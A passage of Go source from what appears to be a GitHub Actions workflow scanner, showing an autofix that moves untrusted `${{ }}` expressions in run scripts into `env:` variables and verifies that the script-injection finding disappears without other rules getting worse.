		for _, m := range shellVar.FindAllStringSubmatch(script, -1) {
			for _, s := range m[1:] {
				if s != "" {
					used[strings.ToUpper(s)] = true
				}
			}
		}
		q := view.q
		names := map[string]string{} // inner expression -> variable
		var order []string
		var tes []tokenEdit
		count := map[string]int{}
		for _, e := range findExprs(script) {
			tok := script[e.start:e.end]
			k := count[tok]
			count[tok]++
			var site *exprSite
			for i := range sites {
				if sites[i].span.start == e.start {
					site = &sites[i]
				}
			}
			if site == nil {
				continue
			}
			if strings.Contains(tok, "\n") {
				return nil
			}
			inner := strings.TrimSpace(e.inner)
			name, ok := names[inner]
			if !ok {
				base := envName(site.paths[0])
				name = base
				for n := 2; used[name]; n++ {
					name = base + "_" + strconv.Itoa(n)
				}
				used[name] = true
				names[inner] = name
				order = append(order, inner)
			}
			tes = append(tes, tokenEdit{token: tok, k: k, with: shellRef(name, q[e.start])})
		}
		e := newEdits()
		if !d.rewriteScalar(rv, tes, e) {
			return nil
		}
		var envLines []string
		var indent string
		if envK != nil {
			first := envV.Content[0]
			indent = strings.Repeat(" ", first.Column-1)
		} else {
			indent = strings.Repeat(" ", rk.Column-1+g.indentWidth)
		}
		for _, inner := range order {
			envLines = append(envLines, indent+names[inner]+": "+plainOrQuoted("${{ "+inner+" }}"))
		}
		if envK != nil {
			e.insertAfter(d.end(envV), envLines...)
		} else {
			e.insertAfter(d.end(rv), append([]string{strings.Repeat(" ", rk.Column-1) + "env:"}, envLines...)...)
		}
		fx := e.fix(d, "pass the untrusted values through env: and reference them as quoted shell variables")
		return verifiedInjection(d, fx, g.checkAgain, rv, sites)
	}
}

// verifiedInjection checks an env fix: the file parses and no script
// injection remains at the step's lines, and no other rule got worse.
func verifiedInjection(d *doc, fx *scanners.Fix, check func(*doc) []hit, rv *yaml.Node, sites []exprSite) *scanners.Fix {
	if fx == nil {
		return nil
	}
	src := strings.Join(applyFix(d.lines, fx), "\n") + "\n"
	nd, err := parseDoc([]byte(src))
	if err != nil {
		return nil
	}
	before := d.hits
	if before == nil {
		before = check(d)
	}
	after := check(nd)
	var ids []string
	for _, h := range before {
		if h.rule == ruleScriptInjection && len(h.anchors) > 0 {
			for _, s := range sites {
				if h.anchors[0].line == s.line && h.anchors[0].col == s.col {
					ids = append(ids, h.identity)
				}
			}
		}
	}
	if len(ids) == 0 {
		return nil
	}
	for _, h := range after {
		if h.rule == ruleScriptInjection {
			for _, id := range ids {
				if h.identity == id {
					return nil
				}
			}
		}
	}
	bc, ac := d.baseline, countRules(after)
	if bc == nil {
		bc = countRules(before)
	}
	for r, n := range ac {
		if r != ruleScriptInjection && n > bc[r] {
			return nil
		}
	}
	return fx
}

// stepOf finds the step mapping that holds key node k.
func (g *ghFile) stepOf(k *yaml.Node) *yaml.Node {
	var found *yaml.Node
	var walk func(n *yaml.Node, depth int)
	walk = func(n *yaml.Node, depth int) {
		if n == nil || found != nil || depth > 64 {
			return
		}
		if n.Kind == yaml.MappingNode {
			for i := 0; i+1 < len(n.Content); i += 2 {
				if n.Content[i] == k {
					found = n
					return
				}
			}
		}
		for _, c := range n.Content {
			walk(c, depth+1)
		}
	}
	walk(g.d.root, 0)
	return found
}

func contains(s []string, v string) bool {
	for _, x := range s {
		if x == v {
			return true
		}
	}
	return false
}
